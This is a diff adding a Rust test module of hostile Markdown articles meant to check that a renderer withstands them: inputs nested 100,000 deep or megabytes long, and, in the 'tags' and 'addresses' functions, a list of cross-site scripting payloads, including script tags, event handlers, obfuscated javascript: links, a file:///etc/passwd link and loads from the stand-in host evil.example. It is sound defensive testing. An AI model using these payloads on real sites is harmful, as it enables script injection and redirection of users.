@@ -1,0 +1,106 @@
+//! Articles that act, or that cost more than they are long.
+
+use std::fs;
+use std::path::Path;
+
+use super::Attack;
+use super::Comes::{Editions, Refused};
+use super::attack;
+use super::pictures::PIXEL;
+
+pub const ATTACKS: &[Attack] = &[
+    attack("tags that act", tags, Editions(&["html"])),
+    attack("addresses that act", addresses, Editions(&["link-broken", "picture-format"])),
+    attack("quotes 100,000 deep", |f| text(f, &">".repeat(100_000), "x"), Editions(&["too-deep"])),
+    attack("lists 100,000 deep", |f| text(f, &"- ".repeat(100_000), "x"), Editions(&["too-deep"])),
+    attack(
+        "numbers 100,000 deep",
+        |f| text(f, &"1. ".repeat(100_000), "x"),
+        Editions(&["too-deep"]),
+    ),
+    attack(
+        "strong and struck 100,000 deep",
+        |f| round(f, "**~~a ", 50_000, " b~~**"),
+        Editions(&[]),
+    ),
+    attack("pictures 100,000 deep", |f| round(f, "![", 100_000, "](a.png)"), Editions(&[])),
+    attack("a million *", |f| text(f, &"*".repeat(1_000_000), ""), Editions(&[])),
+    attack("a million `", |f| text(f, &"`".repeat(1_000_000), ""), Editions(&[])),
+    attack("a million |", |f| text(f, "a|b\n-|-\n", &"|".repeat(1_000_000)), Editions(&[])),
+    attack("one definition asked for 100,000 times", one_definition, Editions(&[])),
+    attack("a million notes", notes, Refused("may have")),
+    attack(
+        "10 MB on one line",
+        |f| text(f, &"some words ".repeat(1_000_000), ""),
+        Refused("may have"),
+    ),
+    attack("10 MB in one word", |f| text(f, &"w".repeat(10_000_000), ""), Refused("may have")),
+    attack(
+        "10 MB of code",
+        |f| text(f, "```\n", &"let a = 1; ".repeat(1_000_000)),
+        Refused("may have"),
+    ),
+    attack("1,000,000 lines of a weekly", weekly, Refused("may have")),
+];
+
+/// One article of such text.
+fn text(folder: &Path, start: &str, rest: &str) {
+    fs::write(folder.join("a.png"), PIXEL).unwrap();
+    fs::write(folder.join("article.md"), format!("# Words\n\n{start}{rest}\n")).unwrap();
+}
+
+/// Something in itself, so many times.
+fn round(folder: &Path, open: &str, times: usize, close: &str) {
+    text(folder, &open.repeat(times), &close.repeat(times));
+}
+
+fn tags(folder: &Path) {
+    text(
+        folder,
+        "Before <script>alert(1)</script> <b onclick=\"alert(2)\">bold</b> <img src=a.png onerror=alert(3)>\n\n\
+         <script src=\"https://evil.example/a.js\"></script>\n\n\
+         <iframe src=\"https://evil.example\"></iframe>\n\n<object data=\"a.swf\"></object>\n\n\
+         <form action=\"https://evil.example\"><input onfocus=alert(4) autofocus></form>\n\n\
+         <svg onload=alert(5)><script>alert(6)</script><foreignObject><body onload=alert(7)></foreignObject></svg>\n\n\
+         <math><mtext></mtext><a xlink:href=\"javascript:alert(8)\">x</a></math>\n\n\
+         <style>@import url(https://evil.example/a.css);</style>\n\n<link rel=stylesheet href=//evil.example>\n\n\
+         <base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">\n\n\
+         <div style=\"background:url(https://evil.example/p.png)\" onmouseover=alert(9)>words</div>\n\n\
+         <video src=\"https://evil.example/v.mp4\" autoplay></video> <audio src=x></audio> <embed src=x>\n\n\
+         <scr<script>ipt>alert(10)</scr</script>ipt> <IMG \"\"\"><SCRIPT>alert(11)</SCRIPT>\"> <a/onclick=alert(12)>a</a>\n\n\
+         <!--><script>alert(13)</script>--> <![CDATA[<script>alert(14)</script>]]> <?php alert(15) ?>\n\n\
+         | <script>alert(16)</script> | `<script>` |\n|---|---|\n| <b onclick=x>c</b> | ]]> |\n",
+        "",
+    );
+}
+
+fn addresses(folder: &Path) {
+    text(
+        folder,
+        "[a](javascript:alert(1)) [b](JaVa&#115;cript:alert(2)) [c](<java\tscript:alert(3)>) [d][ref] [e](data:text/html,x)\n\
+         <javascript:alert(4)> [f](vbscript:x) [g](\u{1}javascript:alert(5)) [h](javascript&colon;alert(6))\n\
+         <a href=\"javascript:alert(7)\">h</a> <a href=\" &#14; javascript:alert(8)\">i</a>\n\
+         <a href='data:text/html;base64,PHNjcmlwdD4='>j</a> [k](file:///etc/passwd) [l](//evil.example/x)\n\
+         ![m](javascript:alert(9)) ![n](data:image/svg+xml;base64,PHN2Zz4=) [![o](a.png)](javascript:alert(10))\n\n\
+         [ref]: javascript:alert(11) 'x'\n\n[p](https://a.example/\"onclick=\"alert(12)) [q](https://a.example/<script>)\n\
+         [r](a.png 'x\" onclick=\"alert(13)')\n",
+        "",
+    );
+}
+
+fn one_definition(folder: &Path) {
+    let long = "x".repeat(100_000);
+    text(folder, &format!("[a]: https://a.example/{long}\n\n"), &"[a] ".repeat(100_000));
+}
+
+fn notes(folder: &Path) {
+    let asked: String = (0..1_000_000).map(|n| format!("a[^{n}] ")).collect();
+    let notes: String = (0..1_000_000).map(|n| format!("[^{n}]: b\n")).collect();
+    text(folder, &asked, &format!("\n\n{notes}"));
+}
+
+fn weekly(folder: &Path) {
+    let head = "###### Kicker\n# Headline\n##### Standfirst\n> Apr 30th 2026\n";
+    let text = format!("{head}{}", "Words of it.\n".repeat(1_000_000));
+    fs::write(folder.join("article.md"), text).unwrap();
+}
